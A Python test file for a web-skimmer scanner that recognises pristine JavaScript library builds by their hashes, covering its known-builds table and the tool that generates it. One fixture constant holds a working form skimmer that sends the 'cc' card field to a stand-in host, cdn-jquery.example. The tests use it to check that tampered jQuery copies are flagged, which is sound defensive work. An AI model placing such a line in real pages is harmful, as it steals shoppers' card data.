"""The table of known library builds (skimscan/analyze/known.py) and the tool that generates it
(tools/known_builds.py). Nothing here touches the network: the packaged table is read as
shipped, and the tool is run on tarballs built in a tmp dir and placed in its cache."""

from __future__ import annotations

import hashlib
import io
import json
import re
import sys
import tarfile
from pathlib import Path

import pytest

from skimscan.analyze.known import NAME_RE, RESOURCE, KnownBuilds
from skimscan.errors import ConfigError

REPO_ROOT = Path(__file__).resolve().parent.parent
if str(REPO_ROOT / "tools") not in sys.path:
    sys.path.insert(0, str(REPO_ROOT / "tools"))

import corpus  # noqa: E402
import known_builds  # noqa: E402

TABLE = REPO_ROOT / "skimscan" / "analyze" / RESOURCE
JQUERY = REPO_ROOT / ".cache" / "corpus" / "jquery@3.7.1" / "dist" / "jquery.min.js"
SKIMMER = (b'\n;document.addEventListener("submit",function(){new Image().src='
           b'"https://cdn-jquery.example/i.gif?d="+btoa(document.forms[0].cc.value)});\n')
NOWHERE = "http://127.0.0.1:9"  # the tool's tests must never download: this refuses connections


def release_of(name: str) -> str:
    """`@scope/pkg@1.2.3/dist/x.js` -> `@scope/pkg@1.2.3`."""
    match = re.match(r"^((?:@[^/]+/)?[^/@]+@[^/]+)/", name)
    assert match, name
    return match.group(1)


# --- the packaged table ----------------------------------------------------------------------


def test_the_table_loads_once_and_is_not_trivial() -> None:
    known = KnownBuilds.load()
    assert KnownBuilds.load() is known  # read once per process
    assert len(known) >= 500
    packages = {release_of(name).rpartition("@")[0] for name in known.builds.values()}
    assert len(packages) >= 15
    assert {"jquery", "lodash", "react", "react-dom", "vue", "bootstrap", "@popperjs/core"} <= (
        packages
    )


def test_every_entry_is_well_formed() -> None:
    known = KnownBuilds.load()
    for sha256, name in known.builds.items():
        assert re.fullmatch(r"[0-9a-f]{64}", sha256), sha256
        assert NAME_RE.fullmatch(name), name
        assert re.fullmatch(r"(?:@[^/]+/)?[^/@]+@\d+\.\d+\.\d+", release_of(name)), name
        assert name.endswith(".js") and not name.endswith((".map", ".mjs", ".cjs")), name
        assert ".esm." not in name.rpartition("/")[2], name
        assert ".." not in name.split("/") and "//" not in name, name


def test_the_file_is_written_as_the_tool_writes_it() -> None:
    """Sorted by hash, one entry per line, no hand edits: the tool's own text of its content."""
    text = TABLE.read_text(encoding="utf-8")
    table = json.loads(text)
    assert list(table) == sorted(table)
    assert known_builds.table_text(table) == text
    assert len(text.encode("utf-8")) <= known_builds.MAX_TABLE_BYTES


def test_the_table_lists_exactly_the_pinned_versions() -> None:
    """The JSON is regenerated whenever the selection changes (and vice versa)."""
    pinned = {label for pick in known_builds.SELECTION for label in pick.labels()}
    listed = {release_of(name) for name in KnownBuilds.load().builds.values()}
    assert listed == pinned


@pytest.mark.skipif(not JQUERY.is_file(), reason="corpus not fetched (make corpus)")
def test_a_pristine_jquery_is_recognised_and_any_modified_copy_is_not() -> None:
    known = KnownBuilds.load()
    data = JQUERY.read_bytes()
    assert known.identify(data) == "jquery@3.7.1/dist/jquery.min.js"
    assert known.name(hashlib.sha256(data).hexdigest()) == "jquery@3.7.1/dist/jquery.min.js"
    middle = len(data) // 2
    changed = data[:middle] + bytes([data[middle] ^ 0x01]) + data[middle + 1 :]
    for modified in (data + b"\n", data + b" ", data + SKIMMER, SKIMMER + data, changed,
                     data[:-1], data.replace(b"jQuery", b"jQuerY", 1)):
        assert modified != data
        assert known.identify(modified) is None
        assert known.name(hashlib.sha256(modified).hexdigest()) is None


def test_name_is_none_for_anything_but_a_known_sha256() -> None:
    known = KnownBuilds.load()
    sha256 = next(iter(known.builds))
    assert known.name(sha256) == known.builds[sha256]
    assert known.name(sha256.upper()) == known.builds[sha256]  # hex is hex in either case
    for bad in ("", " ", "xyz", "g" * 64, sha256[:-1], sha256 + "0", f" {sha256}", f"{sha256}\n",
                sha256[:32], "0" * 64, hashlib.sha256(b"").hexdigest(),
                known.builds[sha256]):
        assert known.name(bad) is None, bad


def test_an_empty_table_knows_nothing() -> None:
    empty = KnownBuilds.empty()
    assert len(empty) == 0
    assert empty.name(next(iter(KnownBuilds.load().builds))) is None


@pytest.mark.parametrize("data", [
    [],
    {"A" * 64: "jquery@3.7.1/dist/jquery.js"},
    {"a" * 63: "jquery@3.7.1/dist/jquery.js"},
    {"a" * 64: "jquery/dist/jquery.js"},
    {"a" * 64: "jquery@3.7/dist/jquery.js"},
    {"a" * 64: "jquery@3.7.1"},
    {"a" * 64: 1},
])
def test_a_malformed_table_is_refused(data: object) -> None:
    with pytest.raises(ConfigError):
        KnownBuilds.from_mapping(data, "test")


def test_the_table_cannot_be_changed_through_the_lookup() -> None:
    known = KnownBuilds.load()
    with pytest.raises(TypeError):
        known.builds["0" * 64] = "evil@1.0.0/x.js"  # type: ignore[index]
    with pytest.raises(AttributeError):
        known.builds = {}  # type: ignore[misc]


# --- the tool --------------------------------------------------------------------------------


def make_tarball(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def cache_tarball(cache: Path, package: str, version: str, files: dict[str, bytes]) -> None:
    """Put a tarball where the fetcher looks first, so nothing is downloaded."""
    manifest = json.dumps({"name": package, "version": version}).encode()
    path = known_builds._tarball_entry(package, version).tarball_path(cache)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(make_tarball({"package.json": manifest, **files}))


LIB_JS = b"(function(){window.lib={version:'1.0.0'};})();\n"
LIB_MIN_JS = b"window.lib={version:'1.0.0'};\n"


def test_the_selection_is_well_formed() -> None:
    known_builds.check_selection(known_builds.SELECTION)
    for pick in known_builds.SELECTION:
        assert all(re.fullmatch(r"\d+\.\d+\.\d+", v) for v in pick.versions), pick.package


@pytest.mark.parametrize(("versions", "files"), [
    ("3.0.0-rc1", "dist/x.js"),
    ("3.0", "dist/x.js"),
    ("latest", "dist/x.js"),
    ("1.0.0 1.0.0", "dist/x.js"),
    ("1.0.1 1.0.0", "dist/x.js"),
    ("1.10.0 1.9.0", "dist/x.js"),
    ("1.0.0", "../x.js"),
    ("1.0.0", "/dist/x.js"),
    ("1.0.0", "dist/**/x.js"),
    ("1.0.0", "dist/x.js.map"),
    ("1.0.0", "dist/x.esm.js"),
])
def test_a_malformed_selection_is_refused(versions: str, files: str) -> None:
    with pytest.raises(known_builds.KnownBuildsError):
        known_builds.check_selection([known_builds._pick("lib", versions, files)])


def test_a_version_in_two_rows_is_refused() -> None:
    rows = [known_builds._pick("lib", "1.0.0 2.0.0", "a.js"),
            known_builds._pick("lib", "2.0.0", "b.js")]
    with pytest.raises(known_builds.KnownBuildsError, match="twice or out of order"):
        known_builds.check_selection(rows)


def test_the_tool_and_the_lookup_agree_on_names() -> None:
    assert known_builds._LABEL_RE.pattern == f"^{NAME_RE.pattern}$"


def test_globs_match_segment_by_segment() -> None:
    assert known_builds.matches("dist/jquery.min.js", "dist/*.js")
    assert known_builds.matches("dist/jquery.min.js", "dist/jquery.min.js")
    assert not known_builds.matches("dist/esm/jquery.js", "dist/*.js")
    assert not known_builds.matches("src/dist/jquery.js", "dist/*.js")
    assert not known_builds.matches("dist/jquery.js", "*.js")


def test_fetch_hashes_the_selected_builds_and_nothing_else(tmp_path: Path) -> None:
    cache_tarball(tmp_path, "lib", "1.0.0", {
        "dist/lib.js": LIB_JS,
        "dist/lib.min.js": LIB_MIN_JS,
        "dist/lib.js.map": b"{}",
        "dist/lib.esm.js": b"export default 1;\n",
        "src/lib.js": b"module.exports = 1;\n",
    })
    cache_tarball(tmp_path, "lib", "1.0.1", {"dist/lib.js": LIB_JS, "dist/lib.min.js": b"1;\n"})
    pick = known_builds._pick("lib", "1.0.0 1.0.1", "dist/*.js")
    outcomes, downloaded = known_builds.fetch_all([pick], tmp_path, NOWHERE, jobs=2)
    assert downloaded == 0
    assert [o.error for o in outcomes] == [None, None]
    assert [b.label for b in outcomes[0].builds] == ["lib@1.0.0/dist/lib.js",
                                                     "lib@1.0.0/dist/lib.min.js"]
    table = known_builds.build_table(outcomes)
    assert table == {  # 1.0.1's unchanged lib.js keeps the label of the first release
        hashlib.sha256(LIB_JS).hexdigest(): "lib@1.0.0/dist/lib.js",
        hashlib.sha256(LIB_MIN_JS).hexdigest(): "lib@1.0.0/dist/lib.min.js",
        hashlib.sha256(b"1;\n").hexdigest(): "lib@1.0.1/dist/lib.min.js",
    }
    assert json.loads(known_builds.table_text(table)) == table
    assert KnownBuilds.from_mapping(table, "test").identify(LIB_JS) == "lib@1.0.0/dist/lib.js"


@pytest.mark.parametrize(("files", "manifest", "error"), [
    ({"dist/lib.js": LIB_JS}, None, "no file matches dist/lib.min.js"),
    ({"dist/lib.js": LIB_JS, "dist/lib.min.js": b""}, None, "empty file dist/lib.min.js"),
    ({"dist/lib.js": LIB_JS, "dist/lib.min.js": LIB_MIN_JS}, "other", "tarball holds other@"),
])
def test_a_version_that_does_not_fit_its_row_is_an_error(
    tmp_path: Path, files: dict[str, bytes], manifest: str | None, error: str
) -> None:
    cache_tarball(tmp_path, manifest or "lib", "1.0.0", files)
    if manifest:  # the tarball cached under lib's name says it is another package
        known_builds._tarball_entry(manifest, "1.0.0").tarball_path(tmp_path).rename(
            known_builds._tarball_entry("lib", "1.0.0").tarball_path(tmp_path)
        )
    pick = known_builds._pick("lib", "1.0.0", "dist/lib.js dist/lib.min.js")
    outcomes, downloaded = known_builds.fetch_all([pick], tmp_path, NOWHERE)
    assert downloaded == 0
    assert outcomes[0].error and error in outcomes[0].error and not outcomes[0].builds


def test_fetch_writes_the_table_once_and_list_prints_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cache_tarball(tmp_path, "lib", "1.0.0", {"dist/lib.js": LIB_JS})
    table = tmp_path / "known_builds.json"
    argv = ["--cache-dir", str(tmp_path), "--table", str(table), "--registry", NOWHERE]
    selection = (known_builds._pick("lib", "1.0.0", "dist/lib.js"),)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(known_builds, "SELECTION", selection)
        assert known_builds.main([*argv, "fetch"]) == 0
        first = capsys.readouterr().out
        assert known_builds.main([*argv, "fetch"]) == 0
        second = capsys.readouterr().out
    assert "1 files (1 distinct), 1 packages, 1 versions" in first and "written" in first
    assert "(0 downloaded)" in second and "unchanged" in second
    assert json.loads(table.read_text()) == {hashlib.sha256(LIB_JS).hexdigest():
                                             "lib@1.0.0/dist/lib.js"}
    assert known_builds.main([*argv, "list"]) == 0
    line = f"{hashlib.sha256(LIB_JS).hexdigest()}  lib@1.0.0/dist/lib.js\n"
    assert capsys.readouterr().out == line


def test_a_failed_version_leaves_the_old_table(tmp_path: Path) -> None:
    table = tmp_path / "known_builds.json"
    table.write_text("{}\n")
    argv = ["--cache-dir", str(tmp_path), "--table", str(table), "--registry", NOWHERE]
    cache_tarball(tmp_path, "lib", "1.0.0", {"dist/other.js": LIB_JS})
    selection = (known_builds._pick("lib", "1.0.0", "dist/lib.js"),)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(known_builds, "SELECTION", selection)
        assert known_builds.main([*argv, "fetch"]) == 1
    assert table.read_text() == "{}\n"


def test_the_tool_reuses_the_corpus_fetcher() -> None:
    """One downloader, one cache layout: the tool has no HTTP code of its own."""
    source = (REPO_ROOT / "tools" / "known_builds.py").read_text()
    assert "urllib" not in source and "http.client" not in source
    assert known_builds.KnownBuildsError.__mro__[1] is corpus.CorpusError
